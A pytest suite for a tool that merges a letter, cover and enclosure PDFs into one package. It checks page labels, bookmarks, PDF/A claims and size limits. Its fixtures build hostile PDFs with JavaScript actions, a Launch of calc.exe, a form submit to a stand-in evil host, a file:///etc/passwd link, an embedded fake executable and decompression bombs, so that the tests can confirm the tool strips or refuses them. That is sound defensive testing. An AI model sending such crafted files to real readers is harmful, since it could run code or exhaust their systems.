"""assemble(): the merged package, read back with pypdf and pikepdf.

The parts are made here: the letter and the cover with WeasyPrint as PDF/A-3a (as ``typeset`` makes them),
enclosures with WeasyPrint (PDF/A-3b, or plain), hostile PDFs with pypdf.
"""

from __future__ import annotations

import datetime as dt
import io
import random
import re
import zlib
from dataclasses import replace
from pathlib import Path

import pikepdf
import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from letter_pdf import assemble
from letter_pdf.errors import AssemblyError
from letter_pdf.model import Annex, Letter
from letter_pdf.pdf import limits
from letter_pdf.pdf.attachments import Attachment

LETTER_HTML = """<html lang="en"><head><title>Joint letter on association</title>
<meta name="author" content="Example Coalition"><meta name="description" content="Protect civil society">
<meta name="keywords" content="association, civil society"></head>
<body><h1>Joint letter</h1><p>Text with a <a href="https://example.org/">link</a>.</p>
<h1 style="break-before: page">Signatories</h1><p>Organisation One</p></body></html>"""
COVER_HTML = """<html lang="en"><head><title>Cover</title></head>
<body><h1>Cover</h1><p>To the Minister</p></body></html>"""
REPORT_HTML = """<html lang="en"><head><title>A report</title></head>
<body><h1>Report</h1><p>One</p><h2 style="break-before: page">Findings</h2><p>Two</p></body></html>"""
PLAIN_HTML = """<html><head><title>Plain</title><style>@page { size: letter }</style></head>
<body><p>Plain, not PDF/A, US Letter</p></body></html>"""


def weasy(html: str, variant: str | None = "pdf/a-3a") -> bytes:
    import weasyprint

    return weasyprint.HTML(string=html).write_pdf(pdf_variant=variant, pdf_identifier=b"0" * 16)


def _action(kind: str, **entries) -> DictionaryObject:
    d = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        d[NameObject("/" + key)] = value
    return d


def _rect(*v) -> ArrayObject:
    return ArrayObject(NumberObject(x) for x in v)


def hostile_pdf() -> bytes:
    """One US Letter page carrying every kind of active content the issue names, and one web link."""
    w = PdfWriter()
    page = w.add_blank_page(612, 792)
    js = _action("/JavaScript", JS=TextStringObject("app.alert('names')"))
    ef = DecodedStreamObject()
    ef.set_data(b"MZ not really an exe")
    ef[NameObject("/Type")] = NameObject("/EmbeddedFile")
    spec = DictionaryObject({NameObject("/Type"): NameObject("/Filespec"), NameObject("/F"): TextStringObject("evil.exe"),
                             NameObject("/EF"): DictionaryObject({NameObject("/F"): w._add_object(ef)})})
    spec_ref = w._add_object(spec)
    w._root_object[NameObject("/Names")] = DictionaryObject({
        NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), w._add_object(js)])}),
        NameObject("/EmbeddedFiles"): DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("evil.exe"), spec_ref])}),
    })
    w._root_object[NameObject("/OpenAction")] = _action("/JavaScript", JS=TextStringObject("app.alert('open')"))
    w._root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): _action("/JavaScript", JS=TextStringObject("1"))})
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action("/JavaScript", JS=TextStringObject("app.alert('page')"))})

    def annot(subtype: str, rect, **entries):
        d = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
                              NameObject("/Rect"): _rect(*rect)})
        for key, value in entries.items():
            d[NameObject("/" + key)] = value
        return w._add_object(d)

    launch = annot("/Link", (0, 0, 50, 50), A=_action("/Launch", F=TextStringObject("calc.exe")))
    submit = annot("/Link", (0, 60, 50, 110), A=_action("/SubmitForm", F=TextStringObject("https://evil.example/")))
    web = annot("/Link", (0, 120, 50, 170), A=_action("/URI", URI=TextStringObject("https://example.org/report"),
                                                       Next=_action("/JavaScript", JS=TextStringObject("app.alert('next')"))))
    file_uri = annot("/Link", (0, 180, 50, 230), A=_action("/URI", URI=TextStringObject("file:///etc/passwd")))
    look = DecodedStreamObject()  # the filled-in field as it is printed
    look.set_data(b"BT /Helv 10 Tf 2 5 Td (Filled by Jane Doe) Tj ET")
    look[NameObject("/Type")] = NameObject("/XObject")
    look[NameObject("/Subtype")] = NameObject("/Form")
    look[NameObject("/BBox")] = _rect(0, 0, 150, 20)
    look[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): DictionaryObject({
        NameObject("/Helv"): DictionaryObject({NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
                                               NameObject("/BaseFont"): NameObject("/Helvetica")})})})
    widget = annot("/Widget", (100, 100, 250, 120), FT=NameObject("/Tx"), T=TextStringObject("name"),
                   V=TextStringObject("Filled by Jane Doe"), F=NumberObject(4),
                   AP=DictionaryObject({NameObject("/N"): w._add_object(look)}),
                   AA=DictionaryObject({NameObject("/K"): _action("/JavaScript", JS=TextStringObject("app.alert('key')"))}))
    attachment = annot("/FileAttachment", (300, 300, 320, 320), FS=spec_ref)
    media = annot("/RichMedia", (300, 400, 400, 500))
    page[NameObject("/Annots")] = ArrayObject([launch, submit, web, file_uri, widget, attachment, media])
    w._root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): ArrayObject([widget])})
    buffer = io.BytesIO()
    w.write(buffer)
    return buffer.getvalue()


def bomb_pdf(megabytes: int = 200, streams: int = 1) -> bytes:
    w = PdfWriter()
    page = w.add_blank_page(100, 100)
    refs = []
    packed = zlib.compress(b"\0" * (megabytes * 1024 * 1024), 9)
    for _ in range(streams):
        s = StreamObject()
        s._data = packed
        s[NameObject("/Filter")] = NameObject("/FlateDecode")
        refs.append(w._add_object(s))
    page[NameObject("/Contents")] = ArrayObject(refs)
    buffer = io.BytesIO()
    w.write(buffer)
    return buffer.getvalue()


@pytest.fixture(scope="module")
def files(tmp_path_factory) -> dict[str, Path | bytes]:
    folder = tmp_path_factory.mktemp("parts")
    made = {"letter": weasy(LETTER_HTML), "cover": weasy(COVER_HTML)}
    for name, data in (("report.pdf", weasy(REPORT_HTML, "pdf/a-3b")), ("plain.pdf", weasy(PLAIN_HTML, None)),
                       ("hostile.pdf", hostile_pdf())):
        (folder / name).write_bytes(data)
        made[name] = folder / name
    made["folder"] = folder
    return made


def letter_model(folder: Path) -> Letter:
    return Letter(source=folder / "letter.md", title="Joint letter on association", body="", body_line=1,
                  date=dt.date(2026, 11, 29))


def build(files, *, cover=True, cover_pdfs=(), annexes=(), attachments=()):
    return assemble.assemble(letter=letter_model(files["folder"]), letter_pdf=files["letter"],
                             cover_pdf=files["cover"] if cover else None, cover_pdfs=tuple(cover_pdfs),
                             annexes=tuple(annexes), attachments=tuple(attachments))


@pytest.fixture(scope="module")
def package(files):
    """Cover, hostile cover PDF, letter (2 pages), report (PDF/A, 2 pages), a paper-only enclosure, plain (1 page)."""
    return build(files, cover_pdfs=[files["hostile.pdf"]],
                 annexes=[Annex("Report on the law", files["report.pdf"]), Annex("Sent by post"),
                          Annex("Plain annex", files["plain.pdf"])],
                 attachments=[Attachment("manifest.json", b'{"a": 1}\n', "application/json", "the manifest", "Data")])


def outline(reader: PdfReader, items=None, depth=0) -> list[tuple[int, str, int]]:
    out = []
    for item in reader.outline if items is None else items:
        if isinstance(item, list):
            out += outline(reader, item, depth + 1)
        else:
            out.append((depth, item.title, reader.get_destination_page_number(item)))
    return out


def test_pages_are_the_sum_of_the_parts_in_order(package):
    reader = PdfReader(io.BytesIO(package.pdf))
    assert len(reader.pages) == package.pages == 1 + 1 + 2 + 2 + 1
    assert package.letter_page_offset == 2
    assert [(p.kind, p.first_page, p.pages) for p in package.parts] == [
        ("cover", 0, 1), ("cover-pdf", 1, 1), ("letter", 2, 2), ("annex", 4, 2), ("annex", 6, 1)]
    assert "Organisation One" in reader.pages[3].extract_text()
    assert "Plain, not PDF/A" in reader.pages[6].extract_text()


def test_page_labels(package):
    reader = PdfReader(io.BytesIO(package.pdf))
    # The paper-only enclosure is B: labels follow the enclosure list, as the cover shows it.
    assert reader.page_labels == ["Cover-1", "Cover-2", "1", "2", "A-1", "A-2", "C-1"]


def test_single_cover_page_is_labelled_cover(files):
    reader = PdfReader(io.BytesIO(build(files).pdf))
    assert reader.page_labels == ["Cover", "1", "2"]


def test_bookmarks_one_per_part_with_their_own_outlines(package):
    reader = PdfReader(io.BytesIO(package.pdf))
    assert outline(reader) == [
        (0, "Cover", 0),
        (0, "hostile", 1),
        (0, "Joint letter", 2),
        (0, "Signatories", 3),
        (0, "A. Report on the law", 4),
        (1, "Report", 4),
        (2, "Findings", 5),
        (0, "C. Plain annex", 6),
    ]


def test_metadata_is_the_letters(package):
    reader = PdfReader(io.BytesIO(package.pdf))
    meta = reader.metadata
    assert meta.title == "Joint letter on association"
    assert meta.author == "Example Coalition"
    assert meta.subject == "Protect civil society"
    assert meta["/Keywords"] == "association, civil society"
    assert reader.trailer["/Root"]["/Lang"] == "en"
    with pikepdf.open(io.BytesIO(package.pdf)) as pdf:
        xmp = pdf.open_metadata()
        assert xmp["dc:title"] == "Joint letter on association"
        assert xmp["pdf:Producer"] == str(meta["/Producer"])


ACTIVE_KEYS = {"/JS", "/AA", "/OpenAction", "/AcroForm", "/RichMediaContent", "/FT"}
ACTIVE_TYPES = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE", "/Widget",
                "/FileAttachment", "/RichMedia"}


def active_content(data: bytes) -> list[str]:
    found = []
    with pikepdf.open(io.BytesIO(data)) as pdf:
        for obj in pdf.objects:
            if not isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
                continue
            found += [f"{k} in {obj.objgen}" for k in obj.keys() if k in ACTIVE_KEYS]
            found += [f"{obj.get(k)} in {obj.objgen}" for k in ("/S", "/Subtype") if str(obj.get(k)) in ACTIVE_TYPES]
            if obj.get("/S") == "/URI" and "/Next" in obj:
                found.append(f"chained action in {obj.objgen}")
            if obj.get("/Type") == "/EmbeddedFile" and obj.read_bytes().startswith(b"MZ"):
                found.append("the hostile embedded file")
    return found


def test_hostile_cover_pdf_comes_out_clean(package, files):
    assert active_content(files["hostile.pdf"].read_bytes())  # the check sees what it looks for
    assert active_content(package.pdf) == []
    reader = PdfReader(io.BytesIO(package.pdf))
    assert "/OpenAction" not in reader.trailer["/Root"]
    assert set(reader.attachments) == {"manifest.json"}
    annots = [a.get_object() for a in reader.pages[1].get("/Annots", [])]
    assert [a["/A"]["/URI"] for a in annots] == ["https://example.org/report"]  # the web link stays, alone
    assert "Filled by Jane Doe" in reader.pages[1].extract_text()  # the form field's printed look stays
    assert "form fields (what was filled in stays visible)" in " ".join(package.notes)
    note = next(n for n in package.notes if n.startswith("hostile.pdf: removed"))
    for what in ("opening action", "document JavaScript", "embedded files", "form fields", "page actions",
                 "Launch actions", "SubmitForm actions", "multimedia", "chained actions", "links that are not web links"):
        assert what in note


def test_letter_links_are_kept(package):
    reader = PdfReader(io.BytesIO(package.pdf))
    annots = [a.get_object() for a in reader.pages[2]["/Annots"]]
    assert [a["/A"]["/URI"] for a in annots] == ["https://example.org/"]


def test_other_page_sizes_kept_and_noted(package):
    reader = PdfReader(io.BytesIO(package.pdf))
    assert [round(float(reader.pages[i].mediabox.width)) for i in (0, 1, 2, 6)] == [595, 612, 595, 612]
    assert any("plain.pdf: page size US Letter portrait differs from the letter's (A4 portrait)" in n for n in package.notes)


def test_no_pdfa_claim_when_a_part_is_not_pdfa(package):
    assert not package.pdfa and package.pdfa_level is None
    with pikepdf.open(io.BytesIO(package.pdf)) as pdf:
        assert pdf.open_metadata().pdfa_status == ""
    note = next(n for n in package.notes if n.startswith("the package is not PDF/A"))
    assert "plain.pdf: it does not claim PDF/A itself" in note and "hostile.pdf" in note


def test_pdfa_3b_with_a_pdfa_enclosure(files):
    result = build(files, annexes=[Annex("Report", files["report.pdf"])])
    assert result.pdfa_level == "3B"
    with pikepdf.open(io.BytesIO(result.pdf)) as pdf:
        assert pdf.open_metadata().pdfa_status == "3B"
    assert any("PDF/A-3b" in n and "tags" in n for n in result.notes)


def test_pdfa_3a_kept_with_generated_cover_whose_tags_are_grafted(files):
    result = build(files)
    assert result.pdfa_level == "3A" and result.notes == ()
    with pikepdf.open(io.BytesIO(result.pdf)) as pdf:
        assert pdf.open_metadata().pdfa_status == "3A"
        tree = pdf.Root.StructTreeRoot
        nums = tree.ParentTree.Nums
        keys = [int(nums[i]) for i in range(0, len(nums), 2)]
        assert len(keys) == len(set(keys)) and int(tree.ParentTreeNextKey) == max(keys) + 1
        parents = {int(nums[i]): nums[i + 1] for i in range(0, len(nums), 2)}
        for page in pdf.pages:  # every page's marked content maps to elements on that very page
            elements = parents[int(page.obj.StructParents)]
            assert all(e.Pg.objgen == page.obj.objgen for e in elements)
        document = tree.K[0] if isinstance(tree.K, pikepdf.Array) else tree.K
        first = document.K[0]
        assert first.S == "/H1" and first.Pg.objgen == pdf.pages[0].obj.objgen  # the cover comes first
        assert all(kid.P.objgen == document.objgen for kid in document.K)


def test_letter_alone_keeps_everything(files):
    result = build(files, cover=False)
    assert result.pages == 2 and result.letter_page_offset == 0 and result.pdfa_level == "3A"
    assert PdfReader(io.BytesIO(result.pdf)).page_labels == ["1", "2"]


def test_attachments_are_pdfa3_associated_files(package):
    reader = PdfReader(io.BytesIO(package.pdf))
    assert reader.attachments["manifest.json"] == [b'{"a": 1}\n']
    root = reader.trailer["/Root"]
    (spec,) = [s.get_object() for s in root["/AF"]]
    assert spec["/AFRelationship"] == "/Data" and spec["/UF"] == "manifest.json" and spec["/Desc"] == "the manifest"
    stream = spec["/EF"]["/F"].get_object()
    assert stream["/Subtype"] == "/application/json"
    assert stream["/Params"]["/Size"] == 9 and str(stream["/Params"]["/ModDate"]).startswith("D:")


def test_same_inputs_same_bytes(files, package):
    again = build(files, cover_pdfs=[files["hostile.pdf"]],
                  annexes=[Annex("Report on the law", files["report.pdf"]), Annex("Sent by post"),
                           Annex("Plain annex", files["plain.pdf"])],
                  attachments=[Attachment("manifest.json", b'{"a": 1}\n', "application/json", "the manifest", "Data")])
    assert again.pdf == package.pdf
    other = build(files, cover=False)
    ids = [PdfReader(io.BytesIO(x)).trailer["/ID"][0] for x in (package.pdf, other.pdf)]
    assert ids[0] != ids[1]


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"PK\x03\x04 a word document", "is not a PDF file (it looks like a ZIP or Office document)"),
        ("truncated", "is truncated"),
        ("encrypted", "is encrypted (password-protected) — remove the password first, e.g. `qpdf --decrypt"),
        (b"%PDF-1.4\n" + bytes(range(256)) * 20 + b"\n%%EOF\n", "is damaged and cannot be repaired"),
        ("bomb", "expands beyond 64 MiB when decompressed (a decompression bomb)"),
    ],
)
def test_refused_files(files, tmp_path, content, reason):
    if content == "truncated":
        data = files["report.pdf"].read_bytes()
        content = data[: len(data) // 2]
    elif content == "encrypted":
        w = PdfWriter()
        w.add_blank_page(100, 100)
        w.encrypt("secret")
        buffer = io.BytesIO()
        w.write(buffer)
        content = buffer.getvalue()
    elif content == "bomb":
        content = bomb_pdf(200)
    bad = tmp_path / "enclosure.pdf"
    bad.write_bytes(content)
    with pytest.raises(AssemblyError) as error:
        build(files, annexes=[Annex("Bad", bad)])
    assert str(error.value).startswith(f"{bad}: ") and reason in str(error.value)
    assert "\n" not in str(error.value)


def test_limits_bound_pages_and_memory(files, tmp_path, monkeypatch):
    monkeypatch.setattr(limits, "MAX_PAGES", 1)
    with pytest.raises(AssemblyError, match=r"report.pdf: has 2 pages; the limit is 1"):
        build(files, annexes=[Annex("Report", files["report.pdf"])])
    monkeypatch.setattr(limits, "MAX_PAGES", 2000)
    # A 60 MiB stream is within the size limits; with 100 MiB of address space the reader runs out.
    big = tmp_path / "big.pdf"
    big.write_bytes(bomb_pdf(60))
    monkeypatch.setattr(limits, "MEMORY_BYTES", 100 * 1024 * 1024)
    with pytest.raises(AssemblyError, match=r"big.pdf: needs more than 100 MiB of memory to read"):
        build(files, annexes=[Annex("Big", big)])


def test_missing_file_is_refused(files, tmp_path):
    with pytest.raises(AssemblyError, match="missing.pdf: cannot read the file"):
        build(files, annexes=[Annex("Missing", tmp_path / "missing.pdf")])


def test_command_line_files_join_the_front_matter_once(files):
    folder = files["folder"]
    letter = letter_model(folder)
    letter = assemble.with_command_line(
        Letter(**{**letter.__dict__, "enclosures": (Annex("Report on the law", files["report.pdf"]), Annex("By post"))}),
        cover_pdfs=[files["hostile.pdf"], files["hostile.pdf"]],
        annexes=[folder / "." / "report.pdf", files["plain.pdf"]],
    )
    assert letter.cover_pdfs == (files["hostile.pdf"],)
    assert [(e.title, e.path) for e in letter.enclosures] == [
        ("Report on the law", files["report.pdf"]), ("By post", None), ("plain", files["plain.pdf"])]
    entries = assemble.enclosure_entries(letter)
    assert [(e["letter"], e["pages"]) for e in entries] == [("A", 2), ("B", None), ("C", 1)]
    assert [assemble.annex_letter(i) for i in (0, 25, 26, 27, 701, 702)] == ["A", "Z", "AA", "AB", "ZZ", "AAA"]


LINKED_HTML = """<html lang="en"><head><title>Linked</title></head>
<body><p id="intro">See <a href="#findings">the findings</a>.</p>
<h2 id="findings" style="break-before: page">Findings</h2><p>Back to <a href="#intro">the start</a>.</p></body></html>"""


def test_internal_links_of_an_enclosure_lead_to_its_own_pages(files, tmp_path):
    linked = tmp_path / "linked.pdf"
    linked.write_bytes(weasy(LINKED_HTML, "pdf/a-3b"))
    result = build(files, annexes=[Annex("Linked", linked)])
    reader = PdfReader(io.BytesIO(result.pdf))
    assert result.pages == 1 + 2 + 2 and reader.page_labels[3:] == ["A-1", "A-2"]
    forward = [a.get_object() for a in reader.pages[3]["/Annots"]]
    backward = [a.get_object() for a in reader.pages[4]["/Annots"]]
    assert len(forward) == len(backward) == 1
    assert forward[0]["/Dest"][0].idnum == reader.pages[4].indirect_reference.idnum  # a later page
    assert backward[0]["/Dest"][0].idnum == reader.pages[3].indirect_reference.idnum  # an earlier page
    assert not any("links to other documents" in note for note in result.notes)


def test_grafted_cover_leaves_one_structure_tree(files):
    with pikepdf.open(io.BytesIO(build(files).pdf)) as pdf:
        elements = [o for o in pdf.objects if isinstance(o, pikepdf.Dictionary) and o.get("/Type") == "/StructElem"]
        roots = [o for o in pdf.objects if isinstance(o, pikepdf.Dictionary) and o.get("/Type") == "/StructTreeRoot"]
        assert len(roots) == 1
        assert [str(e.S) for e in elements].count("/Document") == 1  # the cover's own root element is gone
        document = roots[0].K[0] if isinstance(roots[0].K, pikepdf.Array) else roots[0].K
        for element in elements:  # every element hangs from the one tree
            seen = 0
            while element.objgen != document.objgen and seen < 50:
                element, seen = element.P, seen + 1
            assert element.objgen == document.objgen


# --- annotations of merged PDFs: what stays, what goes, what the notes say -------------------------------


def _js(code: str) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))


def annotations_pdf() -> bytes:
    """One A4 page with annotations of several kinds carrying JavaScript (/A) and additional actions (/AA), a
    hidden one (flag 2) and a plain visible one; each has a name (/NM) to find it by."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595.28, 841.89))
    page = pdf.pages[0].obj

    def look(marker: str):
        return pdf.make_stream(f"% {marker}\n0 0 1 rg 0 0 50 20 re f\n".encode(), Type=pikepdf.Name.XObject,
                               Subtype=pikepdf.Name.Form, BBox=[0, 0, 50, 20])

    def annot(subtype: str, name: str, y: int, **entries):
        return pdf.make_indirect(pikepdf.Dictionary({
            "/Type": pikepdf.Name.Annot, "/Subtype": pikepdf.Name(subtype), "/Rect": [100, y, 150, y + 20],
            "/NM": pikepdf.String(name), "/F": 4, "/AP": pikepdf.Dictionary(N=look(f"look of {name}")),
            **{"/" + k: v for k, v in entries.items()}}))

    aa = pikepdf.Dictionary(E=_js("app.alert('enter')"), X=_js("app.alert('exit')"))
    page.Annots = pdf.make_indirect(pikepdf.Array([
        annot("/FreeText", "freetext", 700, Contents=pikepdf.String("A comment"),
              DA=pikepdf.String("0 g /Helv 10 Tf"), A=_js("app.alert('freetext')"), AA=aa),
        annot("/Square", "square", 650, AA=pikepdf.Dictionary(E=_js("app.alert('square')"))),
        annot("/Widget", "widget", 600, FT=pikepdf.Name.Tx, T=pikepdf.String("field"), A=_js("app.alert('widget')"),
              AA=pikepdf.Dictionary(K=_js("app.alert('key')"))),
        annot("/Screen", "screen", 550, A=pikepdf.Dictionary(S=pikepdf.Name.Rendition, OP=0, JS=pikepdf.String("1")),
              AA=pikepdf.Dictionary(PO=_js("app.alert('screen')"))),
        annot("/Stamp", "hidden", 500, F=2),
        annot("/Stamp", "visible", 450),
    ]))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([page.Annots[2]]))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def annots_of(data: bytes, page: int) -> list[tuple[str, str, list[str]]]:
    """(subtype, /NM, the keys that can run something) of each annotation on ``page``, read with pikepdf."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        return [(str(a.Subtype), str(a.get("/NM", "")), sorted(k for k in a.keys() if k in ("/A", "/AA", "/JS")))
                for a in pdf.pages[page].obj.get("/Annots", [])]


@pytest.fixture(scope="module")
def annotated(files):
    path = files["folder"] / "annots.pdf"
    path.write_bytes(annotations_pdf())
    return build(files, cover=False, annexes=[Annex("Annotated", path)])


def test_annotation_actions_and_hidden_annotations_are_removed_and_listed(annotated, files):
    source = (files["folder"] / "annots.pdf").read_bytes()
    assert annots_of(source, 0) == [  # the input carries what the output must not
        ("/FreeText", "freetext", ["/A", "/AA"]), ("/Square", "square", ["/AA"]), ("/Widget", "widget", ["/A", "/AA"]),
        ("/Screen", "screen", ["/A", "/AA"]), ("/Stamp", "hidden", []), ("/Stamp", "visible", [])]
    page = next(p.first_page for p in annotated.parts if p.kind == "annex")
    # the free text, the square and the visible stamp stay, without their actions; the widget is flattened into
    # the page, the screen annotation (multimedia) and the hidden stamp are gone
    assert annots_of(annotated.pdf, page) == [
        ("/FreeText", "freetext", []), ("/Square", "square", []), ("/Stamp", "visible", [])]
    assert active_content(annotated.pdf) == []
    with pikepdf.open(io.BytesIO(annotated.pdf)) as pdf:
        streams = [o.read_bytes() for o in pdf.objects if isinstance(o, pikepdf.Stream)]
        looks = {m.decode() for s in streams for m in re.findall(rb"% look of (\w+)", s)}
        assert "/Rendition" not in {str(o.get("/S")) for o in pdf.objects if isinstance(o, pikepdf.Dictionary)}
    assert looks == {"freetext", "square", "visible", "widget"}  # the widget's look is drawn on the page
    assert [n for n in annotated.notes if n.startswith("annots.pdf: removed")] == [
        "annots.pdf: removed form, annotation actions (4), JavaScript actions, form fields (what was filled in stays "
        "visible), multimedia, hidden annotations"]


# --- page labels in the letter's language ---------------------------------------------------------------


@pytest.mark.parametrize(("lang", "covers", "labels", "cover_title"), [
    ("fr", 1, ["Page de garde", "1", "2", "A-1", "A-2"], "Page de garde"),
    ("de", 2, ["Deckblatt-1", "Deckblatt-2", "1", "2", "A-1", "A-2"], "Deckblatt"),
])
def test_page_labels_in_the_letters_language(files, lang, covers, labels, cover_title):
    letter = replace(letter_model(files["folder"]), lang=lang)
    result = assemble.assemble(letter=letter, letter_pdf=files["letter"], cover_pdf=files["cover"],
                               cover_pdfs=(files["plain.pdf"],) * (covers - 1),
                               annexes=(Annex("Rapport", files["report.pdf"]),))
    reader = PdfReader(io.BytesIO(result.pdf))
    assert reader.page_labels == labels
    assert outline(reader)[0] == (0, cover_title, 0)


# --- every limit on a merged PDF, each exercised by a file that exceeds it and one that does not ------------


def _saved(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def slow_pdf(streams: int = 8) -> bytes:
    """A page whose content is ``streams`` streams of 15 MiB of "1 1 1 ...": under every size, object and ratio
    limit, but each costs about 3 s of computing to read (to decompress and scan for colour operators)."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(100, 100))
    packed = zlib.compress(b"1 " * (15 * 1024 * 1024 // 2), 9)
    pdf.pages[0].obj.Contents = pikepdf.Array(
        [pdf.make_stream(packed, Filter=pikepdf.Name.FlateDecode) for _ in range(streams)])
    for stream in pdf.pages[0].obj.Contents:  # make_stream compressed nothing: the data is already Flate
        assert stream.read_raw_bytes() == packed
    return _saved(pdf)


def refusal(files, path: Path) -> str:
    with pytest.raises(AssemblyError) as error:
        build(files, cover=False, annexes=[Annex("Enclosure", path)])
    message = str(error.value)
    assert message.startswith(f"{path}: ") and "\n" not in message
    return message[len(f"{path}: "):]


def merges(files, path: Path) -> bool:
    return build(files, cover=False, annexes=[Annex("Enclosure", path)]).pages > 2


@pytest.mark.slow
def test_wall_clock_limit_stops_a_slow_file_but_not_a_valid_one(files, tmp_path, monkeypatch):
    monkeypatch.setattr(limits, "WALL_SECONDS", 8)
    assert merges(files, files["report.pdf"])  # starting the reader and reading a real enclosure fits in 8 s, even on a busy machine
    slow = tmp_path / "slow.pdf"
    slow.write_bytes(slow_pdf())  # about 24 s of computing, below the 30 s CPU limit
    assert refusal(files, slow).startswith("takes more than 8 s to read (malformed or hostile) — rebuild it")


@pytest.mark.slow
def test_cpu_limit_stops_a_slow_file_but_not_a_valid_one(files, tmp_path, monkeypatch):
    monkeypatch.setattr(limits, "CPU_SECONDS", 2)
    assert merges(files, files["report.pdf"])
    slow = tmp_path / "slow.pdf"
    slow.write_bytes(slow_pdf())
    assert refusal(files, slow).startswith("takes more than 2 s of computing to read (malformed or hostile)")


def test_size_on_disk_limit(files, tmp_path, monkeypatch):
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(100, 100))
    pdf.pages[0].obj.Resources = pikepdf.Dictionary(Properties=pikepdf.Dictionary(
        Blob=pdf.make_stream(random.Random(7).randbytes(1650 * 1024))))  # 1.6 MiB that no filter makes smaller
    big = tmp_path / "big.pdf"
    big.write_bytes(_saved(pdf))
    assert 1.6 * 1048576 < big.stat().st_size < 1.7 * 1048576
    monkeypatch.setattr(limits, "MAX_FILE_BYTES", 2 * 1048576)
    assert merges(files, big)
    monkeypatch.setattr(limits, "MAX_FILE_BYTES", 1048576)
    assert refusal(files, big) == ("is 2 MiB; the limit for a merged PDF is 1 MiB — reduce it (e.g. `qpdf "
                                   "--compress-streams=y` or a lower image resolution) or send it separately")


def test_object_count_limit(files, tmp_path, monkeypatch):
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(100, 100))
    pdf.pages[0].obj.Resources = pikepdf.Dictionary(Properties=pikepdf.Dictionary(
        {f"/P{i}": pdf.make_indirect(pikepdf.Dictionary(N=i)) for i in range(1500)}))
    many = tmp_path / "many.pdf"
    many.write_bytes(_saved(pdf))
    monkeypatch.setattr(limits, "MAX_OBJECTS", 2000)
    assert merges(files, many)
    monkeypatch.setattr(limits, "MAX_OBJECTS", 1000)
    assert refusal(files, many) == "has more than 1000 objects on its pages — rebuild it or leave it out"


def test_total_decompressed_limit(files, tmp_path, monkeypatch):
    three = tmp_path / "three.pdf"
    three.write_bytes(bomb_pdf(15, streams=3))  # 45 MiB in all; each stream under the one-stream and ratio limits
    monkeypatch.setattr(limits, "MAX_DECODED_BYTES", 50 * 1048576)
    assert merges(files, three)
    monkeypatch.setattr(limits, "MAX_DECODED_BYTES", 40 * 1048576)
    assert refusal(files, three) == ("expands to more than 40 MiB when decompressed (a decompression bomb?) — "
                                     "rebuild it or leave it out")


def test_compression_ratio_limit(files, tmp_path, monkeypatch):
    bomb = tmp_path / "ratio.pdf"
    bomb.write_bytes(bomb_pdf(20))  # one stream of 20 MiB (under the 64 MiB of one stream) from ~20 KiB
    assert re.fullmatch(r"has a stream that expands \d{4}-fold to 20 MiB \(a decompression bomb\) — rebuild it or "
                        r"leave it out", refusal(files, bomb))
    monkeypatch.setattr(limits, "MAX_RATIO", 100_000)
    assert merges(files, bomb)  # the ratio, and nothing else, refused it


def test_a_pdfa_claim_broken_by_a_merged_file_is_dropped_with_a_note(files, tmp_path):
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595.28, 841.89))
    page = pdf.pages[0].obj
    page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=pikepdf.Dictionary(
        Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)))
    page.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 720 Td (Claims PDF/A) Tj ET")
    with pdf.open_metadata(set_pikepdf_as_editor=False) as meta:
        meta["pdfaid:part"] = "2"
        meta["pdfaid:conformance"] = "B"
    claims = tmp_path / "claims.pdf"
    claims.write_bytes(_saved(pdf))
    with pikepdf.open(claims) as check:
        assert check.open_metadata().pdfa_status == "2B"  # it says it is PDF/A-2b
    result = build(files, cover=False, annexes=[Annex("Claims", claims)])
    assert not result.pdfa and result.pdfa_level is None
    with pikepdf.open(io.BytesIO(result.pdf)) as merged:
        assert merged.open_metadata().pdfa_status == ""
    assert list(result.notes) == [
        "the package is not PDF/A: claims.pdf: font Helvetica is not embedded (convert these files to PDF/A first, "
        "e.g. `ocrmypdf --output-type pdfa in.pdf out.pdf`)"]


def test_a_pdfa_claim_written_as_xmp_elements_is_recognised(files, tmp_path):
    """pikepdf (like many tools) writes <pdfaid:part xmlns:pdfaid="...">2</pdfaid:part>: still a claim."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595.28, 841.89))
    with pdf.open_metadata(set_pikepdf_as_editor=False) as meta:
        meta["pdfaid:part"] = "2"
        meta["pdfaid:conformance"] = "B"
    assert b'<pdfaid:part xmlns:pdfaid="http://www.aiim.org/pdfa/ns/id/">2<' in pdf.Root.Metadata.read_bytes()
    blank = tmp_path / "blank-pdfa.pdf"
    blank.write_bytes(_saved(pdf))
    result = build(files, cover=False, annexes=[Annex("Blank", blank)])
    assert result.pdfa_level == "3B"
